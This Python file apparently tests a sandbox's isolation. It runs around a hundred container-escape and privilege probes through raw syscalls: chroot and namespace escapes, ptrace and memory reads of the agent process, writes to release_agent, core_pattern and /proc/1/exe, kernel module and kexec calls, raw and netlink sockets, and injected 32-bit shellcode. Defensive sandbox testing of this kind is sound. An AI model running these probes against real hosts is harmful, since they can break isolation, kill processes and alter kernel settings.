"""Attacks by system calls and files. This one file runs inside a sandbox and, as the control, as the
host's root outside: the same code, so that what is refused there is seen to be possible here. It
needs nothing but Python's own library.

    calls.py FACTS NAME…      what came of each, as JSON; FACTS is JSON too

Each attack runs in a process of its own and ends with "done", the name of an error, or a word. In the
control all but a few need namespaces of their own around them: the table says which.
"""

import ctypes
import errno
import fcntl
import glob
import json
import mmap
import os
import resource
import shutil
import signal
import socket
import struct
import sys
import tempfile

LIBC = ctypes.CDLL(None, use_errno=True)
SECONDS = 5
NEWTIME, NEWNS, NEWCGROUP, NEWUTS, NEWIPC = 0x80, 0x20000, 0x2000000, 0x4000000, 0x8000000
NEWUSER, NEWPID, NEWNET = 0x10000000, 0x20000000, 0x40000000
AT_FDCWD = -100
FACTS = {}
ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


def call(number, *arguments):
    """A system call; numbers are those of x86_64."""
    plain = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    answer = LIBC.syscall(ctypes.c_long(number), *plain)
    if answer < 0:
        raise OSError(ctypes.get_errno(), "")
    return answer


def word(thunk):
    try:
        said = thunk()
        return said if isinstance(said, str) else "done"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error.errno))


def each(*thunks):
    """All in one: whatever came of them, without what is not there; `/` between different ends."""
    found = {word(thunk) for thunk in thunks}
    return "/".join(sorted(found - {"ENOENT"} or found))


def one_of(*thunks):
    """Whether one of them works."""
    found = {word(thunk) for thunk in thunks}
    return "done" if "done" in found else "/".join(sorted(found))


def opened(path, flags=os.O_RDONLY):
    os.close(os.open(path, flags | os.O_NONBLOCK | os.O_NOCTTY | os.O_CLOEXEC))


def writable(*paths):
    """Opened and not written to: in the control this is the host's own."""
    return each(*(lambda path=path: opened(path, os.O_WRONLY) for path in paths)) if paths else "ENOENT"


def mount(source, target, kind, flags=0, data=None):
    call(165, source, target, kind, flags, data)


def apart():
    """For the control, where it works: nothing mounted from here on is seen by anybody else."""
    word(lambda: call(272, NEWNS))
    word(lambda: mount(b"none", b"/", None, 0x4000 | 0x40000))


def scratch():
    return tempfile.mkdtemp(dir=FACTS.get("folder"))


def scratch_file():
    return os.path.join(scratch(), "file")


# Namespaces, mounts, the root.


@attack
def user_namespace_unshare():
    call(272, NEWUSER)


@attack
def user_namespace_clone():
    if call(56, NEWUSER | signal.SIGCHLD, 0, 0, 0, 0) == 0:
        os._exit(0)


@attack
def user_namespace_clone3():
    arguments = struct.pack("8Q", NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    if call(435, arguments, len(arguments)) == 0:
        os._exit(0)


@attack
def namespaces_unshare():
    kinds = (NEWNS, NEWNET, NEWIPC, NEWUTS, NEWCGROUP, NEWPID, NEWTIME)
    return each(*(lambda kind=kind: call(272, kind) for kind in kinds))


@attack
def setns_of_init():
    """By the files of process 1."""

    def enter(name):
        with open(f"/proc/1/ns/{name}") as space:
            call(308, space.fileno(), 0)

    return each(*(lambda name=name: enter(name) for name in ("mnt", "net", "uts", "ipc", "pid")))


@attack
def setns_by_pidfd():
    call(308, call(434, 1, 0), NEWNS | NEWNET | NEWUTS)


@attack
def namespace_owner():
    """From the network namespace, which is the host's, to its owner."""
    with open("/proc/self/ns/net") as space:
        fcntl.ioctl(space, 0xB701)


@attack
def chroot_escape():
    """A working folder outside of one's root, and up; twice, so that the control has a jail too."""
    folder = scratch()
    for _ in range(2):
        os.makedirs(folder, exist_ok=True)
        os.chroot(folder)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
    return "done" if os.path.exists(FACTS["canary"]) else "not there"


@attack
def pivot_root():
    apart()
    word(lambda: mount(b"none", b"/mnt", b"tmpfs"))
    os.chdir("/mnt")
    call(155, b".", b".")


@attack
def mount_tmpfs():
    apart()
    mount(b"none", b"/mnt", b"tmpfs")


@attack
def mount_of_the_kernel():
    """Fresh and unmasked ones of what is masked, and the control groups."""
    apart()
    kinds = (b"proc", b"sysfs", b"cgroup2", b"mqueue", b"devpts")
    return each(*(lambda kind=kind: mount(b"none", b"/mnt", kind) for kind in kinds))


@attack
def mount_bind():
    apart()
    mount(b"/proc", b"/mnt", None, 0x1000)


@attack
def mount_writable():
    """Read-only taken away."""
    apart()
    mount(b"none", b"/proc", None, 0x20 | 0x1000)


@attack
def unmount_a_mask():
    apart()
    word(lambda: mount(b"/dev/null", b"/proc/meminfo", None, 0x1000))
    call(166, b"/proc/meminfo", 2)


@attack
def mount_by_new_calls():
    apart()
    tree = lambda: call(428, AT_FDCWD, b"/proc", 1)  # noqa: E731
    clear_read_only = struct.pack("4Q", 0, 1, 0, 0)
    return each(
        lambda: call(430, b"tmpfs", 0),
        tree,
        lambda: call(442, AT_FDCWD, b"/proc", 0, clear_read_only, len(clear_read_only)),
        lambda: call(429, int_of(tree), b"", AT_FDCWD, b"/mnt", 4),
    )


def int_of(thunk):
    try:
        return thunk()
    except OSError:
        return 0


@attack
def binary_formats():
    """A handler that the host's root would run."""
    apart()
    word(lambda: mount(b"none", b"/mnt", b"binfmt_misc"))
    return writable("/proc/sys/fs/binfmt_misc/register", "/mnt/register")


@attack
def id_map():
    word(lambda: call(272, NEWUSER))
    with open("/proc/self/uid_map", "w") as file:
        file.write("0 0 1")


@attack
def ids_out_of_range():
    path = scratch_file()
    opened(path, os.O_CREAT | os.O_WRONLY)
    return each(lambda: os.chown(path, 70000, 70000), lambda: os.setresuid(70000, 70000, 70000))


@attack
def clock_offsets():
    word(lambda: call(272, NEWTIME))
    with open("/proc/self/timens_offsets", "w") as file:
        file.write("monotonic 5 0")


@attack
def leaked_folders():
    """A descriptor of a folder outside of the root leads up to the host's."""
    if FACTS.get("control"):
        os.open("/", os.O_RDONLY | os.O_DIRECTORY)
        os.chroot(scratch())
    for path in [f"/proc/{pid}/fd/{fd}" for pid in ("self", "1", "2") for fd in range(64)] + list(range(64)):
        try:
            fd = path if isinstance(path, int) else os.open(path, os.O_RDONLY | os.O_DIRECTORY)
            os.close(os.open("../" * 64 + FACTS["canary"], os.O_RDONLY, dir_fd=fd))
            return "done"
        except OSError:
            continue
    return "none"


@attack
def places_of_the_host():
    """The platform's data, its layers, those of other sandboxes, by their names on the host."""
    return each(*(lambda path=path: opened(path) for path in FACTS["paths"]))


@attack
def agent_overwritten():
    """The program of process 1 through /proc, as runc was once."""
    opened("/proc/1/exe", os.O_WRONLY)


@attack
def handles():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    word(lambda: call(303, AT_FDCWD, b"/", handle, ctypes.byref(ctypes.c_int()), 0))
    call(304, os.open("/", os.O_RDONLY), handle, os.O_RDONLY)


# Processes.


def own_program(pid):
    """The agent's server, or process 1 where there is none."""
    for path in glob.glob("/proc/[0-9]*/comm"):
        with open(path) as file:
            if file.read().strip() == "envd":
                return int(path.split("/")[2])
    return pid


@attack
def ptrace_of_the_agent():
    return each(*(lambda pid=pid: call(101, 0x4206, pid, 0, 0) for pid in {1, own_program(1)}))


def read_memory(pid):
    address = 0x400000
    try:
        with open(f"/proc/{pid}/maps") as file:
            address = int(file.readline().split("-")[0], 16)
    except OSError:
        pass
    buffer = ctypes.create_string_buffer(16)
    local = struct.pack("QQ", ctypes.addressof(buffer), 16)
    call(310, pid, local, 1, struct.pack("QQ", address, 16), 1, 0)


@attack
def memory_of_the_agent():
    pid = own_program(1)
    return each(
        lambda: read_memory(pid),
        lambda: opened(f"/proc/{pid}/mem"),
        lambda: opened(f"/proc/{pid}/environ"),
        lambda: opened(f"/proc/{pid}/maps"),
    )


@attack
def descriptors_of_the_agent():
    call(438, call(434, own_program(1), 0), 0, 0)


@attack
def signals_to_the_agent():
    """The control is root's: process 1 outlives it."""
    os.kill(1, signal.SIGKILL)


@attack
def process_of_the_host():
    pid = FACTS["process"]
    return each(
        lambda: os.kill(pid, 0),
        lambda: call(434, pid, 0),
        lambda: read_memory(pid),
        lambda: opened(f"/proc/{pid}/environ"),
        lambda: call(302, pid, resource.RLIMIT_CORE, None, ctypes.create_string_buffer(16)),
        lambda: call(101, 0x4206, pid, 0, 0),
    )


@attack
def seccomp_suspended():
    child = os.fork()
    if child == 0:
        signal.pause()
    try:
        call(101, 0x4206, child, 0, 1 << 21)
    finally:
        os.kill(child, signal.SIGKILL)


@attack
def calls_of_32_bits():
    """`keyctl` by the other gate into the kernel, with its own numbers."""
    code = b"\x53\xb8" + struct.pack("<I", 288) + b"\xbb" + bytes(4)
    code += b"\xb9" + struct.pack("<i", -3) + b"\xba" + struct.pack("<I", 1) + b"\xcd\x80\x5b\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    answer = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    if answer < 0:
        raise OSError(-answer, "")


@attack
def calls_of_x32():
    call(0x40000000 | 39)


@attack
def core_limit():
    """The host's handler of core dumps would run for it."""
    call(302, 0, resource.RLIMIT_CORE, struct.pack("QQ", 1 << 20, 1 << 20), None)


@attack
def memory_killer():
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write("-1000")


@attack
def niceness():
    call(141, 0, 0, -20)


@attack
def disk_priority():
    call(251, 1, 0, 1 << 13)


@attack
def capabilities_raised():
    head = struct.pack("Ii", 0x20080522, 0)
    held = ctypes.create_string_buffer(24)
    call(125, head, held)
    low = struct.unpack("6I", held.raw)
    wanted = low[0] | 1 << 21 | 1 << 12
    call(126, head, struct.pack("6I", wanted, wanted, *low[2:]))


@attack
def capabilities_of_a_file():
    path = scratch_file()
    shutil.copy("/bin/true", path)
    os.chmod(path, 0o755)
    os.setxattr(path, "security.capability", struct.pack("<5I", 0x02000001, 1 << 21, 0, 0, 0))
    os.execv(path, [path])


# Files of the kernel.


@attack
def core_pattern():
    return writable("/proc/sys/kernel/core_pattern")


@attack
def settings_of_the_kernel():
    names = ("kernel/modprobe", "kernel/panic", "kernel/printk", "vm/drop_caches", "vm/overcommit_memory")
    names += ("fs/file-max", "fs/suid_dumpable", "fs/protected_symlinks")
    return writable(*(f"/proc/sys/{name}" for name in names))


@attack
def settings_of_the_network():
    names = ("ipv4/ip_forward", "ipv4/conf/all/route_localnet", "ipv4/conf/lo/rp_filter")
    return writable(*(f"/proc/sys/net/{name}" for name in (*names, "ipv6/conf/all/disable_ipv6")))


@attack
def settings_of_the_namespace():
    names = ("max_user_namespaces", "max_inotify_watches", "max_mnt_namespaces")
    # In the control: of a namespace of its own, which is what a sandbox's root has.
    word(lambda: call(272, NEWUSER))
    return writable(*(f"/proc/sys/user/{name}" for name in names))


@attack
def sysrq():
    return writable("/proc/sysrq-trigger")


@attack
def kernel_memory():
    return each(lambda: opened("/proc/kcore"), lambda: opened("/proc/kpageflags"))


@attack
def kernel_log():
    return each(lambda: opened("/proc/kmsg"), lambda: opened("/dev/kmsg"), lambda: call(103, 10, None, 0))


@attack
def kernel_addresses():
    with open("/proc/kallsyms") as file:
        shown = [line.split()[0] for line, _ in zip(file, range(100))]
    return "done" if any(int(address, 16) for address in shown) else "zeros"


@attack
def sys_written():
    names = ("kernel/mm/transparent_hugepage/enabled", "power/state", "kernel/profiling")
    names += ("kernel/uevent_helper", "block/loop0/queue/read_ahead_kb", "kernel/rcu_expedited")
    return writable(*(f"/sys/{name}" for name in names))


@attack
def sys_read():
    shown = [os.listdir(f"/sys/{name}") for name in ("block", "bus", "module") if os.path.isdir(f"/sys/{name}")]
    return "done" if any(shown) else "empty"


def groups(*names):
    """Files of control groups by these names, of either version, not far down."""
    return [
        path
        for name in names
        for depth in ("", "*/", "*/*/")
        for path in sorted(glob.glob(f"/sys/fs/cgroup/{depth}{name}"))[:8]
    ]


@attack
def release_agent():
    return writable(*groups("release_agent"))


@attack
def group_left():
    return writable(*groups("cgroup.procs"))


@attack
def group_made():
    found = {os.path.dirname(path) for path in groups("cgroup.procs")}

    def make(folder):
        os.mkdir(f"{folder}/cma-attack")
        os.rmdir(f"{folder}/cma-attack")

    return each(*(lambda folder=folder: make(folder) for folder in sorted(found)[:4]))


@attack
def group_limits():
    names = ("memory.limit_in_bytes", "memory.max", "cpu.cfs_quota_us", "cpu.max", "pids.max")
    return writable(*groups(*names, "devices.allow", "cgroup.freeze", "cgroup.kill"))


# Devices and file systems.


@attack
def disk_by_number():
    path = scratch_file()
    os.mknod(path, 0o060600, os.makedev(*FACTS["disk"]))
    with open(path, "rb") as disk:
        disk.read(512)


@attack
def devices_by_number():
    def open_made(major, minor):
        path = scratch_file()
        os.mknod(path, 0o020600, os.makedev(major, minor))
        opened(path)

    return each(*(lambda one=one: open_made(*one) for one in ((1, 11), (10, 237), (10, 229))))


@attack
def devices_by_name():
    names = "mem port kmsg loop-control loop0 fuse kvm net/tun vda sda nvme0n1 btrfs-control vhost-vsock tty0"
    return one_of(*(lambda name=name: opened(f"/dev/{name}") for name in names.split()))


@attack
def loop_device():
    with open("/dev/loop-control") as control:
        fcntl.ioctl(control, 0x4C82)


@attack
def attributes_of_the_overlay():
    path = scratch_file()
    opened(path, os.O_CREAT | os.O_WRONLY)
    return each(
        *(
            lambda name=name: os.setxattr(path, f"trusted.overlay.{name}", b"/etc")
            for name in ("redirect", "opaque", "metacopy")
        )
    )


@attack
def whiteout():
    os.mknod(scratch_file(), 0o020600, os.makedev(0, 0))


@attack
def file_that_stays():
    """One that nobody may delete would outlive its sandbox."""
    path = scratch_file()
    with open(path, "w") as file:
        fcntl.ioctl(file, 0x40086602, struct.pack("L", 0x10))
        fcntl.ioctl(file, 0x40086602, struct.pack("L", 0))


@attack
def file_system_frozen():
    """That of the layer is everybody's. The control's cannot be frozen, which is said later."""
    apart()
    word(lambda: mount(b"none", b"/mnt", b"tmpfs"))
    fcntl.ioctl(os.open("/mnt", os.O_RDONLY), 0xC0045877, 0)


@attack
def requests_to_the_pool():
    pool = FACTS["pool"] if os.path.isdir(FACTS["pool"]) else "/"
    fd = os.open(pool, os.O_RDONLY)
    fcntl.ioctl(fd, 0x8400941F, bytearray(1024))


@attack
def quota():
    return each(lambda: call(179, 0x800001 << 8, None, 0, None))


@attack
def swap():
    return each(lambda: call(167, b"/cma-none", 0), lambda: call(168, b"/cma-none"))


# Calls of the whole machine.


@attack
def kernel_replaced():
    call(246, 0, 0, None, 0xFFFF)


@attack
def modules():
    return each(
        lambda: call(175, b"x" * 64, 64, b""),
        lambda: call(313, os.open("/dev/null", os.O_RDONLY), b"", 0),
        lambda: call(176, b"cma_none", os.O_NONBLOCK),
    )


@attack
def restart():
    """With the wrong numbers: the right is asked for first."""
    call(169, 0, 0, 0, None)


@attack
def clock():
    call(164, None, None)


@attack
def clock_frequency():
    told = bytearray(208)
    buffer = (ctypes.c_char * 208).from_buffer(told)
    call(305, 0, buffer)
    told[0:4] = struct.pack("I", 2)
    call(305, 0, buffer)


@attack
def ports():
    return each(lambda: call(172, 3), lambda: call(173, 0x80, 1, 1))


@attack
def accounting():
    call(163, None)


@attack
def profile_cookie():
    call(212, 0, ctypes.create_string_buffer(16), 16)


@attack
def nfs_server():
    call(180, 0, None, None)


@attack
def personality():
    call(135, 0x0400000)


@attack
def hang_up():
    call(153)


def terminal():
    """One of our own, as controlling terminal."""
    theirs, ours = os.openpty()
    os.setsid()
    fcntl.ioctl(ours, 0x540E, 0)
    return theirs, ours


@attack
def terminal_typing():
    _, ours = terminal()
    fcntl.ioctl(ours, 0x5412, b"x")


@attack
def terminal_console():
    _, ours = terminal()
    fcntl.ioctl(ours, 0x541C, bytearray([12]))


@attack
def io_uring():
    call(425, 1, ctypes.create_string_buffer(120))


@attack
def asynchronous_io():
    call(206, 1, ctypes.byref(ctypes.c_ulong()))


@attack
def userfaultfd():
    call(323, 1)


@attack
def bpf():
    call(321, 0, struct.pack("5I", 2, 4, 4, 1, 0) + bytes(108), 128)


@attack
def perf():
    call(298, struct.pack("IIQ", 1, 128, 0) + bytes(112), 0, -1, -1, 0)


@attack
def fanotify():
    call(300, 0, 0)


@attack
def keyring():
    call(250, 0, -3, 1)


@attack
def key_added():
    call(248, b"user", b"cma", b"x", 1, -3)


@attack
def key_requested():
    call(249, b"user", b"cma-none", None, 0)


# Sockets.


def socket_of(family, kind, protocol=0):
    os.close(call(41, family, kind, protocol))


@attack
def vsock():
    socket_of(40, 1)


@attack
def packet():
    socket_of(17, 3, 0x0300)


@attack
def netfilter():
    socket_of(16, 3, 12)


@attack
def xdp():
    socket_of(44, 3)


@attack
def crypto_sockets():
    socket_of(38, 5)


@attack
def rare_families():
    families = (
        3,
        4,
        5,
        6,
        9,
        11,
        12,
        15,
        18,
        21,
        22,
        23,
        24,
        26,
        27,
        29,
        30,
        31,
        33,
        34,
        35,
        36,
        37,
        39,
        41,
        42,
        43,
        45,
    )
    pairs = [(family, kind) for family in families for kind in (1, 2, 3, 5)]
    return one_of(*(lambda pair=pair: socket_of(*pair) for pair in pairs))


@attack
def netlink_families():
    return one_of(*(lambda kind=kind: socket_of(16, 3, kind) for kind in (4, 6, 9, 10, 11, 16, 20, 21)))


@attack
def raw_sockets():
    return each(lambda: socket_of(2, 3, 1), lambda: socket_of(2, 3, 255), lambda: socket_of(10, 3, 58))


@attack
def transparent_sockets():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.setsockopt(socket.SOL_IP, 19, 1)


@attack
def forced_options():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return each(
            lambda: one.setsockopt(socket.SOL_SOCKET, 36, 1),
            lambda: one.setsockopt(socket.SOL_SOCKET, 33, 1 << 20),
            lambda: one.setsockopt(socket.SOL_SOCKET, 12, 7),
        )


def ask_kernel(kind, flags, body):
    """One request over a route socket."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as route:
        route.bind((0, 0))
        route.send(struct.pack("IHHII", 16 + len(body), kind, flags | 5, 1, 0) + body)
        said = route.recv(4096)
        code = struct.unpack_from("i", said, 16)[0]
        if code:
            raise OSError(-code, "")


def attribute(kind, value):
    return struct.pack("HH", 4 + len(value), kind) + value + bytes(-len(value) % 4)


CREATE = 0x400
LOOPBACK_UP = struct.pack("BxHiII", 0, 0, 1, 1, 1)


@attack
def link_changed():
    ask_kernel(16, 0, LOOPBACK_UP)


@attack
def link_made():
    kind = attribute(18, attribute(1, b"veth"))
    ask_kernel(16, CREATE, struct.pack("BxHiII", 0, 0, 0, 0, 0) + kind)


@attack
def link_by_request():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        fcntl.ioctl(one, 0x8914, struct.pack("16sH22x", b"lo", 1))


@attack
def address_added():
    address = socket.inet_aton("10.9.9.9")
    ask_kernel(20, CREATE, struct.pack("4BI", 2, 32, 0, 0, 1) + attribute(2, address) + attribute(1, address))


@attack
def route_added():
    word(lambda: ask_kernel(16, 0, LOOPBACK_UP))
    head = struct.pack("8BI", 2, 32, 0, 0, 254, 4, 253, 1, 0)
    to = attribute(1, socket.inet_aton("198.51.100.77")) + attribute(4, struct.pack("I", 1))
    return each(
        lambda: ask_kernel(24, CREATE, head + to),
        lambda: ask_kernel(
            32, CREATE, struct.pack("8BI", 2, 0, 0, 0, 254, 0, 0, 1, 0) + attribute(6, struct.pack("I", 4242))
        ),
    )


@attack
def neighbour_added():
    word(lambda: ask_kernel(16, 0, LOOPBACK_UP))
    head = struct.pack("B3xiHBB", 2, 1, 0x80, 0, 0)
    ask_kernel(28, CREATE, head + attribute(1, socket.inet_aton("10.9.9.8")) + attribute(2, bytes(6)))


@attack
def traffic_shaped():
    ask_kernel(36, CREATE, struct.pack("B3xiIII", 0, 1, 0x10000, 0xFFFFFFFF, 0) + attribute(1, b"pfifo\0"))


def connect_local(address):
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(address)


@attack
def abstract_socket():
    connect_local("\0" + FACTS["name"])


@attack
def socket_of_the_node():
    connect_local(FACTS["admin"])


@attack
def shared_memory():
    return each(
        lambda: call(29, FACTS["key"], 4096, 0), lambda: call(240, FACTS["name"].encode(), os.O_RDONLY, 0, None)
    )


def outcome(function):
    """What came of an attack in a process of its own."""
    ours, theirs = os.pipe()
    child = os.fork()
    if child == 0:
        os.set_inheritable(theirs, True)
        signal.alarm(SECONDS)
        try:
            said = word(function)
        except BaseException as error:  # noqa: BLE001
            said = f"{type(error).__name__}: {error}"
        os.write(theirs, said.encode()[:400])
        os._exit(0)
    os.close(theirs)
    with open(ours, "rb") as pipe:
        said = pipe.read().decode()
    status = os.waitpid(child, 0)[1]
    if said:
        return said
    # An attack that became another program says nothing but by its end.
    return signal.Signals(status).name if os.WIFSIGNALED(status) else ("done" if status == 0 else f"exit {status}")


def main():
    FACTS.update(json.loads(sys.argv[1]))
    os.umask(0o022)
    print(json.dumps({name: outcome(ATTACKS[name]) for name in sys.argv[2:] or ATTACKS}))


if __name__ == "__main__":
    main()
